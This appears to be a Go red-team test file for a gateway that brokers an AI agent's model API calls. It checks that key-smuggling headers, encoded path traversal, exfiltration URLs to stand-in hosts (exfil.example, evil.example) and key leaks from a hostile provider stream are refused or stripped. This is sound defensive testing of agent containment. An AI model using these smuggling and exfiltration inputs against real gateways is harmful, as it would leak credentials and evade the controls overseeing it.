package broker_test

import (
	"bufio"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/checkfu/checkfu/gateway/internal/rigtest"
	"github.com/checkfu/checkfu/gateway/modelroute"
)

// TestGeminiRawRequests (red team on the Gemini dialect and count_tokens,
// mock: the rig's model server on loopback): Gemini requests written
// byte by byte on the socket as a hijacked agent would. Held: a model
// and method percent-encoded in the path (the broker routes on the
// decoded path; the upstream URL is rebuilt from the checked name, so
// the provider sees the canonical path, never the agent's encoding),
// the agent's x-goog-api-key in every casing, twice, and in a chunked
// body's trailer, Authorization, x-api-key: the key reaches the
// provider once, in x-goog-api-key. Refused before the provider sees
// anything: dot segments, encoded slashes and dots, path parameters, a
// trailing slash, upper-case path or method variants, lower-case
// method, queries other than alt=sse alone, a model in another case or
// with a trailing dot, a count_tokens path on a session with only a
// Gemini route, and (broke, fixed) file data in a function response's
// parts and several candidates.
func TestGeminiRawRequests(t *testing.T) {
	r := rigtest.NewModelBudget(t, modelroute.Budget{Requests: 20, Tokens: 1 << 20})
	r.Grant(rigtest.GeminiCapability)
	var (
		mu   sync.Mutex
		uris []string
	)
	r.Model.SetHandler(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		mu.Lock()
		uris = append(uris, req.RequestURI)
		mu.Unlock()
		io.Copy(io.Discard, req.Body)
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"candidates":[{"content":{"parts":[{"text":"ok"}]},"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":5,"candidatesTokenCount":1}}`)
	}))
	sock := rigtest.ServeBroker(t, mustBroker(t, r))
	m := rigtest.GeminiModel
	body := `{"contents":[{"role":"user","parts":[{"text":"hi"}]}],"generationConfig":{"maxOutputTokens":8}}`
	req := func(method, target, extra, body string) string {
		return method + " " + target + " HTTP/1.1\r\nHost: evil.example\r\n" + extra +
			"Content-Type: application/json\r\nContent-Length: " + fmt.Sprint(len(body)) + "\r\n\r\n" + body
	}
	keys := "x-goog-api-key: " + placeholder + "\r\nX-GOOG-API-KEY: " + placeholder + "\r\nX-Goog-Api-Key: " + placeholder + "\r\n" +
		"authorization: Bearer " + placeholder + "\r\nx-api-key: " + placeholder + "\r\nX-Goog-User-Project: evil\r\n"
	encoded := strings.ReplaceAll(m, "-", "%2D")
	held := []string{
		req("POST", "/v1beta/models/"+m+"%3AgenerateContent", keys, body),
		req("POST", "/v1beta/models/"+encoded+":streamGenerateContent?alt=sse", keys, body),
		req("POST", "http://evil.example:8443/v1beta/models/"+m+":generateContent", keys, body),
		// The key again in the trailer of a chunked body.
		"POST /v1beta/models/" + m + ":generateContent HTTP/1.1\r\nHost: evil.example\r\nContent-Type: application/json\r\nTrailer: X-Goog-Api-Key\r\nTransfer-Encoding: chunked\r\n\r\n" +
			fmt.Sprintf("%x\r\n%s\r\n0\r\nX-Goog-Api-Key: %s\r\n\r\n", len(body), body, placeholder),
	}
	for _, raw := range held {
		if resp := rawOnce(t, sock, raw); resp.StatusCode != 200 {
			t.Errorf("%q: %d, want 200", raw, resp.StatusCode)
		}
	}
	got := r.Model.Received()
	want := []string{
		"/v1beta/models/" + m + ":generateContent",
		"/v1beta/models/" + m + ":streamGenerateContent?alt=sse",
		"/v1beta/models/" + m + ":generateContent",
		"/v1beta/models/" + m + ":generateContent",
	}
	mu.Lock()
	if fmt.Sprint(uris) != fmt.Sprint(want) {
		t.Errorf("the provider's request URIs: %q, want %q", uris, want)
	}
	mu.Unlock()
	for i, up := range got {
		if vs := up.Header.Values("X-Goog-Api-Key"); len(vs) != 1 || vs[0] != rigtest.ModelCanary {
			t.Errorf("request %d: x-goog-api-key %q, want the key once", i+1, vs)
		}
		for name, vs := range up.Header {
			for _, v := range vs {
				if strings.Contains(v, placeholder) || strings.Contains(v, "evil") {
					t.Errorf("request %d: the agent's %s reached the provider: %q", i+1, name, v)
				}
			}
		}
	}
	n := len(got)
	for _, tc := range []struct {
		raw, code string
	}{
		{req("POST", "/v1beta/models/"+m+":generateContent/", "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/"+m+":generateContent;alt=sse", "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/"+m+";x:generateContent", "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/%2e%2e/files:generateContent", "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/"+m+"%2Fx:generateContent", "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/"+m+"%3Ax:generateContent", "", body), "model_path_refused"},
		{req("POST", "/v1beta//models/"+m+":generateContent", "", body), "model_path_refused"},
		{req("POST", "/V1BETA/models/"+m+":generateContent", "", body), "model_path_refused"},
		{req("POST", "/v1beta/Models/"+m+":generateContent", "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/"+m+":GenerateContent", "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/"+m+":streamGenerateContent?alt=sse&alt=json", "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/"+m+":streamGenerateContent?ALT=sse", "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/"+m+":streamGenerateContent?alt=%73se", "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/"+m+":streamGenerateContent?alt=sse&key="+placeholder, "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/"+m+":generateContent?$alt=sse", "", body), "model_path_refused"},
		{req("PUT", "/v1beta/models/"+m+":generateContent", "", body), "model_path_refused"},
		{req("Post", "/v1beta/models/"+m+":generateContent", "", body), "model_path_refused"},
		{req("POST", "/v1/messages/count_tokens", "", `{"model":"`+m+`","messages":[]}`), "model_path_refused"},
		{req("POST", "/v1/messages/count_tokens?beta=true", "", `{"model":"`+m+`","messages":[]}`), "model_path_refused"},
		{req("POST", "/v1beta/models/"+m+":countTokens", "", body), "model_path_refused"},
		{req("POST", "/v1beta/models/Gemini-2.5-Pro:generateContent", "", body), "model_not_allowed"},
		{req("POST", "/v1beta/models/"+m+".:generateContent", "", body), "model_not_allowed"},
		{req("POST", "/v1beta/models/"+m+"-latest:generateContent", "", body), "model_not_allowed"},
		{req("POST", "/v1beta/models/"+m+":generateContent", "", `{"model":"models/gemini-2.5-flash","contents":[]}`), "model_request_invalid"},
		{req("POST", "/v1beta/models/"+m+":generateContent", "", `{"Model":"gemini-2.5-flash","contents":[]}`), "model_request_invalid"},
		{req("POST", "/v1beta/models/"+m+":generateContent", "", `{"tools":[{"google_search":{}}]}`), "model_tool_refused"},
		{req("POST", "/v1beta/models/"+m+":generateContent", "", `{"tools":[{"googleSearchRetrieval":{}}]}`), "model_tool_refused"},
		{req("POST", "/v1beta/models/"+m+":generateContent", "", `{"tools":[{"code_execution":{}}]}`), "model_tool_refused"},
		{req("POST", "/v1beta/models/"+m+":generateContent", "", `{"tools":[{"url_context":{}}]}`), "model_tool_refused"},
		{req("POST", "/v1beta/models/"+m+":generateContent", "", `{"tools":[{"functionDeclarations":[]},{"urlContext":{}}]}`), "model_tool_refused"},
		{req("POST", "/v1beta/models/"+m+":generateContent", "", `{"contents":[{"parts":[{"file_data":{"file_uri":"https://exfil.example/x"}}]}]}`), "model_tool_refused"},
		{req("POST", "/v1beta/models/"+m+":generateContent", "", `{"cached_content":"cachedContents/x"}`), "model_tool_refused"},
		// Broke, fixed: a multimodal function response's file data, and
		// several candidates on one output cap.
		{req("POST", "/v1beta/models/"+m+":generateContent", "", `{"contents":[{"role":"user","parts":[{"functionResponse":{"name":"f","response":{},"parts":[{"fileData":{"fileUri":"https://exfil.example/x","mimeType":"text/plain"}}]}}]}]}`), "model_tool_refused"},
		{req("POST", "/v1beta/models/"+m+":streamGenerateContent?alt=sse", "", `{"contents":[],"generationConfig":{"candidateCount":8,"maxOutputTokens":8}}`), "model_request_invalid"},
	} {
		resp := rawOnce(t, sock, tc.raw)
		b := resp.body
		// A path no route of the session serves falls to the first model
		// capability of its profile (Anthropic's, not granted here).
		if resp.StatusCode < 400 || !strings.Contains(string(b), `"refused: `+tc.code+`"`) && !(tc.code == "model_path_refused" && strings.Contains(string(b), `"refused: permission_missing"`)) {
			t.Errorf("%q: %d %s, want %s", tc.raw, resp.StatusCode, b, tc.code)
		}
	}
	if got := len(r.Model.Received()); got != n {
		t.Errorf("the provider received %d refused requests", got-n)
	}
}

// rawResponse is an answer read whole.
type rawResponse struct {
	StatusCode int
	body       []byte
}

// rawOnce writes one raw request on a new connection to the broker's
// socket, reads its answer whole and closes the connection (the broker
// serves at most MaxModelConnections at once).
func rawOnce(t *testing.T, sock, req string) rawResponse {
	t.Helper()
	nc := dialRaw(t, sock)
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(30 * time.Second))
	if _, err := io.WriteString(nc, req); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(nc), nil)
	if err != nil {
		t.Fatalf("the answer to %q: %v", req, err)
	}
	b, _ := io.ReadAll(resp.Body)
	return rawResponse{resp.StatusCode, b}
}

// TestGeminiStreamScreen (red team, mock: a hostile provider handler on
// the rig's loopback model server): the key echoed in a Gemini stream
// chunk with every character JSON-escaped, or written in two pieces
// with a flush between them inside one event, never reaches the agent.
func TestGeminiStreamScreen(t *testing.T) {
	escaped := ""
	for _, c := range rigtest.ModelCanary {
		escaped += fmt.Sprintf(`\u%04x`, c)
	}
	half := len(rigtest.ModelCanary) / 2
	for name, write := range map[string]func(w http.ResponseWriter){
		"escaped": func(w http.ResponseWriter) {
			io.WriteString(w, `data: {"candidates":[{"content":{"parts":[{"text":"`+escaped+`"}]}}]}`+"\r\n\r\n")
		},
		"split in one event": func(w http.ResponseWriter) {
			io.WriteString(w, `data: {"candidates":[{"content":{"parts":[{"text":"`+rigtest.ModelCanary[:half])
			w.(http.Flusher).Flush()
			time.Sleep(50 * time.Millisecond) // a separate read at the relay; not a timing assertion
			io.WriteString(w, rigtest.ModelCanary[half:]+`"}]}}]}`+"\r\n\r\n")
		},
	} {
		t.Run(name, func(t *testing.T) {
			r := rigtest.NewModelBudget(t, modelroute.Budget{Requests: 4, Tokens: 1 << 20})
			r.Grant(rigtest.GeminiCapability)
			r.Model.SetHandler(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
				io.Copy(io.Discard, req.Body)
				w.Header().Set("Content-Type", "text/event-stream")
				io.WriteString(w, `data: {"candidates":[{"content":{"parts":[{"text":"a"}]}}],"usageMetadata":{"promptTokenCount":5}}`+"\r\n\r\n")
				w.(http.Flusher).Flush()
				write(w)
				io.WriteString(w, `data: {"candidates":[{"content":{"parts":[{"text":"b"}]},"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":5,"candidatesTokenCount":2}}`+"\r\n\r\n")
			}))
			sock := rigtest.ServeBroker(t, mustBroker(t, r))
			body := `{"contents":[],"generationConfig":{"maxOutputTokens":8}}`
			nc := dialRaw(t, sock)
			defer nc.Close()
			nc.SetDeadline(time.Now().Add(30 * time.Second))
			io.WriteString(nc, "POST /v1beta/models/"+rigtest.GeminiModel+":streamGenerateContent?alt=sse HTTP/1.1\r\nHost: x\r\nContent-Length: "+fmt.Sprint(len(body))+"\r\n\r\n"+body)
			got, _ := io.ReadAll(nc)
			noLeak(t, "the stream", got)
			if strings.Contains(string(got), escaped) || strings.Contains(string(got), "STOP") {
				t.Errorf("the stream was not cut: %q", got)
			}
		})
	}
}

// TestModelRouteRefusesProviderFetches (red team, broke → fixed; mock):
// a content part whose source is a URL had the provider fetch it, with
// whatever the agent put in the URL: an Anthropic image "url" source in
// a Messages call and in a count_tokens call (which spends no tokens),
// an OpenAI Responses input_image naming an http URL. Each reached the
// model server before; each is now refused model_tool_refused before it
// sees anything, and the inline (base64) form is still served.
func TestModelRouteRefusesProviderFetches(t *testing.T) {
	r, c := modelBroker(t, rigtest.ModelCapability, rigtest.OpenAICapability)
	src := `{"type":"image","source":{"type":"url","url":"https://exfil.example/?d=secret"}}`
	for _, tc := range []struct{ path, body string }{
		{"/v1/messages", `{"model":"` + rigtest.AllowedModel + `","stream":true,"max_tokens":8,"messages":[{"role":"user","content":[` + src + `]}]}`},
		{"/v1/messages/count_tokens?beta=true", `{"model":"` + rigtest.AllowedModel + `","messages":[{"role":"user","content":[` + src + `]}]}`},
		{"/v1/responses", `{"model":"` + rigtest.OpenAIModel + `","stream":true,"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://exfil.example/?d=secret"}]}]}`},
	} {
		if status, got := post(t, c, "POST", tc.path, tc.body); status != 403 || !strings.Contains(got, `"refused: model_tool_refused"`) {
			t.Errorf("%s %s: %d %q, want 403 model_tool_refused", tc.path, tc.body, status, got)
		}
	}
	if n := len(r.Model.Received()); n != 0 {
		t.Fatalf("the provider received %d requests", n)
	}
	inline := `{"model":"` + rigtest.AllowedModel + `","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}]}]}`
	if status, got := post(t, c, "POST", "/v1/messages/count_tokens?beta=true", inline); status != 200 {
		t.Errorf("an inline image counted: %d %q", status, got)
	}
}
